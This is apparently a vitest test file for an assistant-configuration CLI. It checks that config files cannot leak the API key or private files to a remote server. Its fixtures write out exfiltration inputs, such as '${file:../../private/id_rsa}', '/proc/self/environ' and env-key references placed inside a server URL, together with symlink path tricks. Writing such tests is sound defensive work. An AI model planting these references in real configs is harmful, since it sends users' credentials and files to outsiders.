import { chown, symlink, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { everyCase } from '../helpers/every-case.ts'
import { temporaryFolder } from '../helpers/folders.ts'
import { listenOnLoopback } from '../helpers/loopback.ts'

import { startInTerminal } from '../helpers/terminal.ts'
import { cliIn } from '../helpers/test-cli.ts'

const key = 'key-of-the-victim'
const secret = 'text-of-the-private-file'

/** A machine with a private file, a key and a server of the stranger, and the stranger's files in `desk/`. */
async function machine(files: Readonly<Record<string, string>>) {
  const taken: string[] = []
  const { origin } = await listenOnLoopback(
    createServer((request, response) => {
      taken.push(request.url ?? '')
      request.resume().on('end', () => response.end('{}'))
    }),
  )
  const all = { 'private/id_rsa': secret, 'caller.txt': 'Hello\n', ...files }
  const folder = await temporaryFolder(
    Object.fromEntries(
      Object.entries(all).map(([name, content]) => [name, content.replaceAll('SERVER', origin)]),
    ),
  )
  const env = {
    CALLYARD_CONFIG_DIR: join(folder, 'config'),
    CALLYARD_API_KEY: key,
    CALLYARD_BASE_URL: origin,
    HOOK_TOKEN: 's3cret',
  }
  const cwd = join(folder, 'desk')
  return {
    folder,
    cwd,
    env,
    taken,
    run: async (...argv: string[]) => (await cliIn(cwd, env, process.getuid?.()))(argv),
    terminal: (argv: readonly string[], more: Readonly<Record<string, string>> = {}) =>
      startInTerminal(argv, { cwd, env: { ...env, ...more } }),
  }
}

const chat = ['call', 'chat', 'assistants/a.yaml', '--webhooks', '--caller', '../caller.txt']
const numbers = ['--from', '+12025550100', '--to', '+12025550123']
/** Every command that reads files and sends something. */
const senders = [
  ['apply', '--yes'],
  ['assistant', 'create', 'assistants/a.yaml'],
  ['call', 'start', ...numbers, '--assistant', 'assistants/a.yaml'],
  ['call', 'start', ...numbers, '--assistant', 'assistants/a.yaml', '--dry-run', '--show-secrets'],
  chat,
]

/** Every command loads files the same way: one kind of reference is tested with each command, the others with one. */
const someSenders = everyCase ? senders : senders.slice(0, 1)

const withUrl = (url: string) => ({
  'desk/callyard.yaml': '',
  'desk/assistants/a.yaml': `name: A\nassistantServer: { url: "SERVER/${url}" }\n`,
})

describe('a file cannot send callyard’s key', () => {
  test.each([
    ['${env:CALLYARD_API_KEY}', senders],
    ['${env:CALLYARD_API_KEY:-none}', someSenders],
    ['${env:callyard_api_key:-none}', someSenders],
  ])('as %s', async (reference, commands) => {
    const { run, taken } = await machine(withUrl(reference))
    for (const argv of commands) {
      const { exitCode, stdout, stderr } = await run(...argv)
      expect({ argv, exitCode, stdout }).toEqual({ argv, exitCode: 3, stdout: '' })
      expect(stderr).toContain('assistants/a.yaml:2:25: error: assistantServer.url reads ')
      expect(stderr).not.toContain(key)
    }
    expect(taken).toEqual([])
  })

  test('or through callyard.yaml', async () => {
    const { run, taken } = await machine({
      'desk/callyard.yaml': 'baseUrl: "SERVER/${env:CALLYARD_API_KEY}"\n',
    })
    const { exitCode, stderr } = await run('plan')
    expect(exitCode).toBe(3)
    expect(stderr).toContain('callyard.yaml:1:10: error: baseUrl reads CALLYARD_API_KEY')
    expect(taken).toEqual([])
  })
})

describe('a file cannot send another file of the machine', () => {
  test.each([
    ['by dots', '../../private/id_rsa', senders],
    ['by a link in the project', 'link.md', someSenders],
    ['by a linked folder', '../friends/id_rsa', someSenders],
    ['by its whole path', '/etc/hostname', someSenders],
    ['of the system', '/proc/self/environ', someSenders],
  ])('%s', async (_, path, commands) => {
    const { run, taken, cwd } = await machine(withUrl(`\${file:${path}}`))
    await symlink('../../private/id_rsa', join(cwd, 'assistants/link.md'))
    await symlink('../private', join(cwd, 'friends'))
    for (const argv of commands) {
      const { exitCode, stdout, stderr } = await run(...argv)
      expect({ argv, exitCode, stdout }).toEqual({ argv, exitCode: 3, stdout: '' })
      expect(stderr).toContain(
        `assistants/a.yaml:2:25: error: assistantServer.url includes ${path}: the file is outside`,
      )
      expect(stderr).not.toContain(secret)
    }
    expect(taken).toEqual([])
  })

  test('outside its folder without a project', async () => {
    const { run, taken } = await machine({
      'desk/assistants/a.yaml': 'name: A\nwelcomeMessage: "${file:../../private/id_rsa}"\n',
    })
    const { exitCode, stderr } = await run(...chat)
    expect(exitCode).toBe(3)
    expect(stderr).toContain('the file is outside')
    expect(taken).toEqual([])
  })

  test.each<[string[]]>([
    [['validate', '.']],
    [['plan']],
    ...senders.slice(1).map((argv): [string[]] => [argv]),
    [['tool', 'create', 'tools/t.yaml']],
    [['tool', 'update', 't1', 'tools/change.json']],
    [['faq', 'push', 'knowledge-bases/k.yaml', '--dry-run']],
  ])('%j accepts --allow-outside-files', async argv => {
    const reference = '${file:../../private/id_rsa}'
    const { run } = await machine({
      'desk/callyard.yaml': '',
      'desk/assistants/a.yaml': `name: A\nwelcomeMessage: "${reference}"\n`,
      'desk/tools/t.yaml': `type: function\nfunction: { name: "${reference}" }\n`,
      'desk/tools/change.json': `{ "function": { "name": "${reference}" } }`,
      'desk/knowledge-bases/k.yaml': `knowledgeBaseId: k1\nfaq: [{ question: Q, answer: "${reference}" }]\n`,
    })
    const refused = await run(...argv)
    expect(refused.stdout + refused.stderr).toContain('[outside-file]')
    const allowed = await run(...argv, '--allow-outside-files')
    expect(allowed.stdout + allowed.stderr).not.toContain('[outside-file]')
  })
})

test.skipIf(process.getuid?.() !== 0)(
  'ignores another user’s callyard.yaml in a parent folder, with an error whose remedy works',
  async () => {
    const { folder, cwd, env, run, taken } = await machine({
      'callyard.yaml': 'baseUrl: SERVER\n',
      'desk/tools/t.yaml': 'type: function\n',
    })
    await chown(join(folder, 'callyard.yaml'), 12_345, 12_345)
    const refused = await run('tool', 'create', 'tools/t.yaml')
    expect(refused).toMatchObject({ exitCode: 3, stdout: '' })
    expect(refused.stderr).toContain('belongs to another user (uid 12345; you are 0)')
    expect(refused.stderr).toContain(`CALLYARD_SAFE_DIRECTORY=${folder}`)
    expect(taken).toEqual([])
    const trusted = await cliIn(cwd, { ...env, CALLYARD_SAFE_DIRECTORY: folder }, process.getuid?.())
    expect(await trusted(['profile', 'show'])).toMatchObject({ exitCode: 0 })
  },
)

describe('shows what a file sends, and where, before the first message', () => {
  const files = {
    'desk/a.yaml':
      'name: A\nwelcomeMessage: Hi\nassistantServer: { url: "https://hooks.acme.io/${env:HOOK_TOKEN}" }\n',
  }

  test('sends nothing after a no, and asks once for a yes', async () => {
    const { terminal, cwd, taken } = await machine(files)
    const first = terminal(['call', 'chat', 'a.yaml'])
    await first.shows(/Allow this\?/)
    expect(first.screen).toContain(join(cwd, 'a.yaml'))
    expect(first.screen).toContain('HOOK_TOKEN')
    expect(first.screen).toContain('hooks.acme.io')
    expect(first.screen).not.toMatch(/s3cret|assistant {2}/)
    first.type('n\r')
    expect(await first.exitCode).toBe(130)
    expect(first.screen).toContain('Cancelled; nothing was sent')

    const second = terminal(['call', 'chat', 'a.yaml'])
    await second.shows(/Allow this\?/)
    second.type('y\r')
    await second.shows(/Hi/)
    second.type('\u0004')
    expect(await second.exitCode).toBe(0)

    const third = terminal(['call', 'chat', 'a.yaml'])
    await third.shows(/You are the caller/)
    third.type('\u0004')
    expect(await third.exitCode).toBe(0)
    expect(third.screen).not.toContain('Allow this?')
    expect(taken).toEqual([])
  })

  test('asks for variables of --env-file as for those of the environment', async () => {
    const { terminal } = await machine({
      'desk/b.yaml': 'name: B\nassistantSystemPrompt: Say ${env:FROM_FILE}\n',
      'desk/.env': 'FROM_FILE=s3cret\n',
    })
    const chatting = terminal(['call', 'chat', 'b.yaml', '--env-file', '.env'])
    await chatting.shows(/Allow this\?/)
    expect(chatting.screen).toContain('FROM_FILE')
    expect(chatting.screen).not.toContain('s3cret')
    chatting.type('n\r')
    expect(await chatting.exitCode).toBe(130)
  })

  test('does not call a host that was added by /restart, and continues the call', async () => {
    const { terminal, cwd } = await machine(files)
    const chatting = terminal(['call', 'chat', 'a.yaml'])
    await chatting.shows(/Allow this\?/)
    chatting.type('y\r')
    await chatting.shows(/Hi/)
    await writeFile(join(cwd, 'a.yaml'), 'name: A\nassistantServer: { url: https://other.acme.io/ }\n')
    chatting.type('/restart\r')
    await chatting.shows(/this call continues/)
    await chatting.shows(/have not allowed: other\.acme\.io/)
    chatting.type('\u0004')
    expect(await chatting.exitCode).toBe(0)
  })

  test('does not prompt in CI', async () => {
    const { terminal, taken } = await machine(files)
    const creating = terminal(['assistant', 'create', 'a.yaml'], { CI: 'true' })
    await creating.exitCode
    expect(creating.screen).not.toContain('Allow this?')
    expect(taken).toHaveLength(1)
  })
})
